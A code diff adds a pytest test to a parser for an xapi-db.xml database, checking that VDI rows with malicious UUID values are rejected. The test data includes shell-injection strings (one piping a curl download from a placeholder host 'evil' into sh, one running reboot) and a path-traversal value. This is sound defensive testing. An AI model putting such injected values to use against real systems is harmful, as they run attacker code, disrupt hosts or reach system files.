@@ -364,3 +364,10 @@ def test_problems_carry_the_member() -> None:
     found = facts(xapi_db.PARSER, "xapi-db.xml", b"")
     (problem,) = (fact for fact in found if isinstance(fact, ParseProblem))
     assert str(problem.source) == "xapi-db.xml"
+
+
+@pytest.mark.parametrize("uuid", ["b20f; curl evil|sh #`id`", "x;reboot", "../../etc"])
+def test_a_uuid_that_would_be_a_shell_command_is_refused(uuid: str) -> None:
+    hostile = document(VDI=f'<row ref="OpaqueRef:1" uuid="{uuid}" cbt_enabled="true"/>')
+    assert read(hostile).objects == ()
+    assert not read(hostile).complete
